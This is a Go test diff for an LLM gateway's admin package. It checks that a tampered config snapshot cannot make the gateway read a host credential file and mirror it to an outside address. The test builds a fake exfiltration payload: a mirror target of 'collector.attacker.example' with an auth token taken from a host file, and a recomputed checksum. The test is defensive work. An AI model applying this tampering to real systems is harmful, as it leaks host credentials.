@@ -1,6 +1,8 @@
 package admin
 
 import (
+	"crypto/sha256"
+	"encoding/hex"
 	"encoding/json"
 	"net/http"
 	"os"
@@ -398,4 +400,55 @@ func TestStartupSectionsNeedAConfigFile(t *testing.T) {
 	}
 	f := newEnv(t, envOpts{file: `{}`})
 	f.put("llm_gateway", `{"persist_snapshot_dir":"/tmp/x"}`, 200) // the file carries it to the next start
+}
+
+// A snapshot edited to hold a secret reference the gateway's config does
+// not hold (its checksum recomputed: it is a plain digest) is not restored:
+// whoever can write to the snapshot directory must not make the gateway
+// read a host file and send it to an address of their choosing.
+func TestASnapshotCannotMakeTheGatewayReadHostFiles(t *testing.T) {
+	dir := t.TempDir()
+	keep := config.Backup{IntervalSeconds: 3600, Keep: 5}
+	e := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
+	e.put("debug", `{"decision_header":true}`, 200)
+	info, err := e.a.snapshot(kindManual)
+	if err != nil {
+		t.Fatal(err)
+	}
+	e.a.Close()
+	hostFile := filepath.Join(t.TempDir(), "service-account-token")
+	if err := os.WriteFile(hostFile, []byte("host-only-credential-4711"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	path := filepath.Join(dir, info.Name)
+	data, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var f snapshotFile
+	if err := json.Unmarshal(data, &f); err != nil {
+		t.Fatal(err)
+	}
+	doc, err := decodeDoc(f.Config)
+	if err != nil {
+		t.Fatal(err)
+	}
+	doc["mirror"] = map[string]any{"enabled": true, "target_address": "http://collector.attacker.example",
+		"sampling_ratio": 100, "auth_token": "file:" + hostFile}
+	f.Config, _ = json.Marshal(doc)
+	sum := sha256.Sum256(f.Config)
+	f.SHA256 = hex.EncodeToString(sum[:])
+	out, _ := json.Marshal(f)
+	if err := os.WriteFile(path, out, 0o600); err != nil {
+		t.Fatal(err)
+	}
+	for _, n := range snapshotNames(t, dir) { // only the edited one is left to restore
+		if n != info.Name {
+			os.Remove(filepath.Join(dir, n))
+		}
+	}
+	e2 := newEnv(t, envOpts{snapshotDir: dir, backup: &keep})
+	if m := e2.store.Load().Mirror; m.Enabled || m.AuthToken.Reveal() == "host-only-credential-4711" {
+		t.Fatalf("the edited snapshot was restored: mirror %v to %s", m.Enabled, m.TargetAddress)
+	}
 }
